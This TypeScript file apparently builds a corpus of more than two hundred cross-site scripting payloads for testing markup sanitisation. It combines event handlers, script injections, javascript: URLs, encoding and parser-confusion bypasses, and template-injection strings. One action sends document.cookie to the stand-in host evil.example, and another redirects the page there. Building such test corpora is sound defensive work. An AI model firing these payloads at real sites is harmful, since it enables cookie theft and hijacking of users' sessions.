/** Texts that would do something if a page took them for markup: two hundred and more, from parts that go together. */

const ACTS = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "top.location='//evil.example'"];
const EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle"];

const withEvent = (event: string, act: string): string[] => [
  `<img src=x ${event}=${act}>`,
  `<svg ${event}="${act}">`,
  `"><details open ${event}=${act}>`,
  `' autofocus ${event}='${act}' x='`,
  `<body/${event.toUpperCase()}=\`${act}\`>`,
];

const withAct = (act: string): string[] => [
  `<script>${act}</script>`,
  `</script><script>${act}//`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `</textarea><iframe srcdoc="<script>${act}</script>">`,
  `</title><embed src="data:text/html,<script>${act}</script>">`,
  `<a href="javascript:${act}">look</a>`,
  `<a href="jav&#x09;ascript:${act}">look</a>`,
  `<a href="data:text/html;base64,${Buffer.from(`<script>${act}</script>`).toString("base64")}">look</a>`,
  `[look](javascript:${act})`,
  `![look](x" onerror="${act})`,
  `<form action="javascript:${act}"><button>go</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<svg><animate attributeName=href values=javascript:${act} /><a><text>look</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${act}'/>#x"/></svg>`,
  `<object data="javascript:${act}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<base href="javascript:${act}//">`,
  `<link rel=stylesheet href="javascript:${act}">`,
  `<style>@import 'javascript:${act}';</style>`,
  `<div style="background:url(javascript:${act})">`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}&#60;/script&#62;`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `<%= ${act} %>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<!--[if gte IE 4]><script>${act}</script><![endif]-->`,
  `<template><script>${act}</script></template>`,
  `]]><script>${act}</script>`,
];

export const MARKUP: readonly string[] = [
  ...EVENTS.flatMap((event) => ACTS.flatMap((act) => withEvent(event, act))),
  ...ACTS.flatMap(withAct),
  "<style>*{display:none}</style>",
  "\u202emoc.live",
  "<xmp><plaintext>",
];
